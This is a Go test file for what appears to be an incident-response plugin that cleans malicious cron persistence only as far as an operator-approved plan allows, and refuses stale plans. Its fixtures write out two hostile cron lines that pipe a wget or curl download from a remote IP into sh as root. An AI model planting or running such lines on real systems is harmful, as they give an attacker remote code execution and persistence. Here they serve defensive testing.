package persistplugin

import (
	"context"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/abusekit/abusekit/playbook"
	"github.com/abusekit/abusekit/playbook/plugin"
	"github.com/abusekit/abusekit/playbook/plugintest"
	"github.com/abusekit/abusekit/plugins/persist"
	"github.com/abusekit/abusekit/plugins/persist/hosttest"
	"github.com/google/go-cmp/cmp"
)

const badCron = "* * * * * root wget -q -O - http://203.0.113.7/y.sh | sh\n"

func infected(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	t.Cleanup(func() { hosttest.ClearImmutable(dir) })
	if err := hosttest.Write(dir, hosttest.Debian12().Append("/etc/crontab", badCron, hosttest.InfectionTime)); err != nil {
		t.Fatal(err)
	}
	return dir
}

// plantLater is an infection that appears after the plan was approved.
func plantLater(t *testing.T, dir string) {
	t.Helper()
	if err := os.WriteFile(filepath.Join(dir, "etc/cron.d/later"), []byte("* * * * * root curl -s http://203.0.113.9/z | sh\n"), 0o644); err != nil {
		t.Fatal(err)
	}
}

func decode[T any](t *testing.T, raw json.RawMessage) T {
	t.Helper()
	var v T
	if err := json.Unmarshal(raw, &v); err != nil {
		t.Fatalf("decode %s: %v", raw, err)
	}
	return v
}

// clean applies the plan its Plan phase made (kept between the phases),
// not a new look at the root: an entry planted after approval stays, a
// planned file that changed is refused with ErrChanged and left alone.
func TestCleanAppliesTheApprovedPlan(t *testing.T) {
	ctx := context.Background()
	clean := NewPlugin()["clean"]
	inv := plugintest.Invocation{}
	t.Run("new entry after approval", func(t *testing.T) {
		dir := infected(t)
		in := CleanInput{FindInput: FindInput{Root: dir}, QuarantineDir: t.TempDir()}
		pr, err := inv.Plan(ctx, clean, in)
		if err != nil {
			t.Fatal(err)
		}
		plantLater(t, dir)
		res, err := inv.Apply(ctx, clean, in)
		if err != nil {
			t.Fatal(err)
		}
		out := decode[CleanOutput](t, res.Output)
		if out.PlannedAtApply || len(out.Changes) != 1 || out.Changes[0].Path != "/etc/crontab" || out.Changes[0].SHA256 == "" {
			t.Errorf("applied %+v, want the one approved change", out)
		}
		if !strings.Contains(pr.Summary, "plan sha256 "+out.PlanSHA256) {
			t.Errorf("applied plan %s is not the approved one (%q)", out.PlanSHA256, pr.Summary)
		}
		if _, err := os.Stat(filepath.Join(dir, "etc/cron.d/later")); err != nil {
			t.Errorf("clean acted on an entry nobody approved: %v", err)
		}
		if b, _ := os.ReadFile(filepath.Join(dir, "etc/crontab")); strings.Contains(string(b), "203.0.113.7") {
			t.Error("the approved change was not made")
		}
	})
	t.Run("planned file changed", func(t *testing.T) {
		dir := infected(t)
		in := CleanInput{FindInput: FindInput{Root: dir}, QuarantineDir: t.TempDir()}
		if _, err := inv.Plan(ctx, clean, in); err != nil {
			t.Fatal(err)
		}
		p := filepath.Join(dir, "etc/crontab")
		b, _ := os.ReadFile(p)
		moved := string(b) + "# edited after approval\n"
		if err := os.WriteFile(p, []byte(moved), 0o644); err != nil {
			t.Fatal(err)
		}
		if _, err := inv.Apply(ctx, clean, in); !errors.Is(err, persist.ErrChanged) {
			t.Fatalf("apply over a moved file: %v", err)
		}
		if b, _ := os.ReadFile(p); string(b) != moved {
			t.Error("the moved file was touched")
		}
	})
	t.Run("no plan phase", func(t *testing.T) {
		dir := infected(t)
		res, err := inv.Apply(ctx, clean, CleanInput{FindInput: FindInput{Root: dir}, QuarantineDir: t.TempDir()})
		if err != nil {
			t.Fatal(err)
		}
		if out := decode[CleanOutput](t, res.Output); !out.PlannedAtApply || len(out.Changes) != 1 {
			t.Errorf("deferred clean: %+v", out)
		}
	})
}

// A plugin restarted between approval and apply (its kept plans gone)
// applies the approved plan the runner gives back, not a new look at the
// root that would also act on what was planted since.
func TestCleanAppliesTheApprovedPlanAfterRestart(t *testing.T) {
	ctx := context.Background()
	dir := infected(t)
	in := CleanInput{FindInput: FindInput{Root: dir}, QuarantineDir: t.TempDir()}
	pr, err := plugintest.Plan(ctx, NewPlugin()["clean"], in)
	if err != nil {
		t.Fatal(err)
	}
	payload, err := json.Marshal(pr.Payload)
	if err != nil {
		t.Fatal(err)
	}
	plantLater(t, dir)
	restarted := NewPlugin()["clean"]
	res, err := plugintest.Invocation{Approved: &plugin.ApprovedPlan{Summary: pr.Summary, Changes: pr.Changes, Payload: payload}}.Apply(ctx, restarted, in)
	if err != nil {
		t.Fatal(err)
	}
	out := decode[CleanOutput](t, res.Output)
	if out.PlannedAtApply || len(out.Changes) != 1 || out.Changes[0].Path != "/etc/crontab" {
		t.Errorf("applied %+v, want the one approved change", out)
	}
	if !strings.Contains(pr.Summary, "plan sha256 "+out.PlanSHA256) {
		t.Errorf("applied plan %s is not the approved one (%q)", out.PlanSHA256, pr.Summary)
	}
	if _, err := os.Stat(filepath.Join(dir, "etc/cron.d/later")); err != nil {
		t.Errorf("clean acted on an entry nobody approved: %v", err)
	}
	// An approved plan for another root is refused.
	other := CleanInput{FindInput: FindInput{Root: infected(t)}, QuarantineDir: t.TempDir()}
	_, err = plugintest.Invocation{Approved: &plugin.ApprovedPlan{Payload: payload}}.Apply(ctx, NewPlugin()["clean"], other)
	if !errors.Is(err, plugin.ErrPlanChanged) {
		t.Errorf("approved plan for another root: %v, want ErrPlanChanged", err)
	}
}

// The plan as clean's input (the output of "plan"): planned and applied
// exactly, refused when stale at either phase.
func TestCleanTakesAPlan(t *testing.T) {
	ctx := context.Background()
	acts := NewPlugin()
	dir := infected(t)
	po, err := plugintest.Apply[PlanOutput](ctx, acts["plan"], PlanInput{FindInput: FindInput{Root: dir}})
	if err != nil {
		t.Fatal(err)
	}
	if po.Plan == nil || len(po.Plan.Changes) != 1 || po.Plan.Changes[0].SHA256 == "" {
		t.Fatalf("plan output: %+v", po)
	}
	plantLater(t, dir)
	in := CleanInput{Plan: po.Plan, QuarantineDir: t.TempDir()}
	pr, err := plugintest.Plan(ctx, acts["clean"], in)
	if err != nil {
		t.Fatal(err)
	}
	if len(pr.Changes) != 1 || !strings.Contains(pr.Summary, po.SHA256) || !strings.Contains(pr.Changes[0].Detail, po.Plan.Changes[0].SHA256) {
		t.Errorf("clean plan of a given plan: %+v", pr)
	}
	out, err := plugintest.Apply[CleanOutput](ctx, acts["clean"], in)
	if err != nil {
		t.Fatal(err)
	}
	if out.PlanSHA256 != po.SHA256 || out.PlannedAtApply || out.ManifestPath == "" {
		t.Errorf("clean output: %+v", out)
	}
	if _, err := os.Stat(filepath.Join(dir, "etc/cron.d/later")); err != nil {
		t.Errorf("clean acted outside the plan: %v", err)
	}
	// A plan given with another root is refused.
	if _, err := plugintest.Plan(ctx, acts["clean"], CleanInput{FindInput: FindInput{Root: t.TempDir()}, Plan: po.Plan}); !errors.Is(err, plugin.ErrInvalidInput) {
		t.Errorf("plan for another root: %v", err)
	}
	// The same plan again: the crontab moved (cleaned), so it is stale.
	if _, err := plugintest.Plan(ctx, acts["clean"], in); !errors.Is(err, persist.ErrChanged) {
		t.Errorf("stale plan approved: %v", err)
	}
	if _, err := plugintest.Apply[CleanOutput](ctx, acts["clean"], in); !errors.Is(err, persist.ErrChanged) {
		t.Errorf("stale plan applied: %v", err)
	}
}

// Over the real transport: the operator approves a plan, the tree gains
// an entry while the approval is pending, and the run applies what was
// approved, nothing more; the plan handed from step to step is applied
// exactly; restore reports the reloads the services need.
func TestApprovedPlanOverRealTransport(t *testing.T) {
	spec := plugintest.Serve(t, "persist", NewPlugin())
	run := func(approve func(context.Context, *playbook.Plan) (bool, error), steps ...playbook.Step) *playbook.Run {
		t.Helper()
		pb, err := playbook.New("clean", steps...)
		if err != nil {
			t.Fatal(err)
		}
		r, err := playbook.NewRunner(pb, playbook.Options{Incident: "case-2", Plugins: []playbook.PluginSpec{spec}, Approve: approve})
		if err != nil {
			t.Fatal(err)
		}
		defer r.Close()
		res, err := r.Run(context.Background())
		if err != nil {
			t.Fatal(err)
		}
		return res
	}

	dir := infected(t)
	var approvedChanges []string
	res := run(func(_ context.Context, p *playbook.Plan) (bool, error) {
		for _, c := range p.Steps[0].Changes {
			approvedChanges = append(approvedChanges, c.Target)
		}
		plantLater(t, dir) // while the operator reads the plan
		return true, nil
	}, playbook.Step{ID: "clean", Plugin: "persist", Action: "clean", Input: map[string]any{"root": dir, "quarantine_dir": t.TempDir()}})
	out := decode[CleanOutput](t, res.Steps[0].Output)
	var applied []string
	for _, c := range out.Changes {
		applied = append(applied, c.Path)
	}
	if diff := cmp.Diff(approvedChanges, applied); diff != "" || out.PlannedAtApply {
		t.Errorf("applied is not what was approved (-approved +applied):\n%s (planned at apply: %v)", diff, out.PlannedAtApply)
	}
	if _, err := os.Stat(filepath.Join(dir, "etc/cron.d/later")); err != nil {
		t.Errorf("clean acted on an entry nobody approved: %v", err)
	}

	// plan -> clean, the plan passed as a whole value.
	dir2 := infected(t)
	res = run(playbook.AutoApprove,
		playbook.Step{ID: "plan", Plugin: "persist", Action: "plan", Input: map[string]any{"root": dir2}},
		playbook.Step{ID: "clean", Plugin: "persist", Action: "clean", Input: map[string]any{"plan": "${{ steps.plan.plan }}", "quarantine_dir": t.TempDir()}})
	po := decode[PlanOutput](t, res.Steps[0].Output)
	out = decode[CleanOutput](t, res.Steps[1].Output)
	if out.PlanSHA256 != po.SHA256 || out.PlannedAtApply || len(out.Changes) != 1 {
		t.Errorf("plan step %s, clean applied %+v", po.SHA256, out)
	}

	// A manifest of a live clean carries its reloads; restore reports them.
	plan := po.Plan
	dir3 := infected(t)
	plan.Root = dir3
	plan.Live = true
	plan.Reloads = []persist.Reload{{Command: []string{"systemctl", "reload-or-restart", "cron"}, Reason: "crontabs changed"}}
	ar, err := persist.Apply(context.Background(), plan, persist.ApplyOptions{QuarantineDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	res = run(playbook.AutoApprove, playbook.Step{ID: "restore", Plugin: "persist", Action: "restore", Input: map[string]any{"manifest": ar.ManifestPath}})
	ro := decode[RestoreOutput](t, res.Steps[0].Output)
	if len(ro.Restored) != 1 || !cmp.Equal(ro.Reloads, plan.Reloads) || ro.ReloadsRun {
		t.Errorf("restore output: %+v", ro)
	}
}
